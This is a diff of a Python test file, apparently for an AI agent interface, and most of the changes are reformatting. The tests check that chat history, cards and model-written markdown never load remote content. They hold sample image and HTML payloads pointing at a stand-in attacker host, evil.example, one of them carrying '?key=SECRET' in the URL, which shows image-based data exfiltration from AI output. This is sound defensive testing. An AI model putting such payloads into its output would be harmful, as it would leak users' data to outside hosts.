@@ -193,9 +193,15 @@ def test_cards_notices_and_history_are_inert(payload):
     from agent_kernel.store.sessions import StoredMessage
 
     message = StoredMessage(
-        seq=1, turn=1, role="assistant", created_at=datetime(2026, 1, 1),
-        content=[{"type": "text", "text": payload}, {"type": "tool_use", "name": "x", "input": {"a": payload}},
-                 {"type": "tool_result", "content": payload}],
+        seq=1,
+        turn=1,
+        role="assistant",
+        created_at=datetime(2026, 1, 1),
+        content=[
+            {"type": "text", "text": payload},
+            {"type": "tool_use", "name": "x", "input": {"a": payload}},
+            {"type": "tool_result", "content": payload},
+        ],
     )
     assert_inert({"text/html": Markdown(render_history("s", [message]))._repr_html_()})
 
@@ -206,8 +212,7 @@ def test_choice_cards_are_inert():
 
     for payload in PAYLOADS:
         what, shown = describe("run_code", {"code": payload})
-        card = ChoiceCard(heading="Question", text=payload, code=shown,
-                          buttons=[{"id": "0", "label": payload}])
+        card = ChoiceCard(heading="Question", text=payload, code=shown, buttons=[{"id": "0", "label": payload}])
         assert_inert(card.static(None))
         assert_inert(card.static("0"))
         assert_inert(card.static(Typed(payload)))
@@ -251,7 +256,7 @@ FETCHING = [
     f"![![inner](https://{EVIL}/i.png)](https://{EVIL}/o.png)",
     f"| a |\n|---|\n| ![x](https://{EVIL}/t.png) |",
     f"# ![x](https://{EVIL}/h.png)\n\n> ![x](https://{EVIL}/q.png)\n\n- ![x](https://{EVIL}/l.png)",
-    f"![x](/files/a.png) ![y](../a.png) ![z](a.png)",
+    "![x](/files/a.png) ![y](../a.png) ![z](a.png)",
     f'<img src="https://{EVIL}/a.png">',
     f'<img srcset="https://{EVIL}/a.png 1x, https://{EVIL}/b.png 2x">',
     f'<picture><source srcset="https://{EVIL}/a.png"><img src="x.png"></picture>',
@@ -325,7 +330,9 @@ def test_model_markdown_fetches_nothing_by_itself(payload, tmp_path: Path):
     assert_fetches_nothing(_text_bundle(payload))
     assert_fetches_nothing(B.markdown_bundle(payload))
     assert_fetches_nothing({"text/html": Markdown(payload)._repr_html_()})
-    assert_fetches_nothing(_card_bundle(ToolCard("t1", "render_blocks", {"title": payload}, status="ok", detail=payload)))
+    assert_fetches_nothing(
+        _card_bundle(ToolCard("t1", "render_blocks", {"title": payload}, status="ok", detail=payload))
+    )
     assert_fetches_nothing(_notice_bundle(payload, "warning"))
     assert_fetches_nothing(B.alert_bundle({"content": payload, "variant": "info"}))
     assert_fetches_nothing(B.image_bundle({"url": f"https://{EVIL}/a.png", "alt": payload}, tmp_path))
@@ -334,7 +341,7 @@ def test_model_markdown_fetches_nothing_by_itself(payload, tmp_path: Path):
 
 
 def test_a_remote_image_becomes_a_link_the_person_can_click():
-    markup = safe.markdown_html(f"See ![the plot](https://{EVIL}/plot.png?key=SECRET \"Plot\").")
+    markup = safe.markdown_html(f'See ![the plot](https://{EVIL}/plot.png?key=SECRET "Plot").')
     parsed = _Anchors()
     parsed.feed(markup)
     assert parsed.anchors == [
@@ -348,7 +355,10 @@ def test_a_remote_image_becomes_a_link_the_person_can_click():
     assert nested.count("<a ") == 1 and 'href="https://ok.example"' in nested and "🖼 image: x" in nested
     # An image block from a URL is a link too.
     block = B.image_bundle({"url": f"https://{EVIL}/b.png", "alt": "bars"}, Path("."))
-    assert 'href="https://evil.example/b.png"' in block["text/html"] and block["text/plain"] == f"image: bars <https://{EVIL}/b.png>"
+    assert (
+        'href="https://evil.example/b.png"' in block["text/html"]
+        and block["text/plain"] == f"image: bars <https://{EVIL}/b.png>"
+    )
 
 
 class _Anchors(HTMLParser):
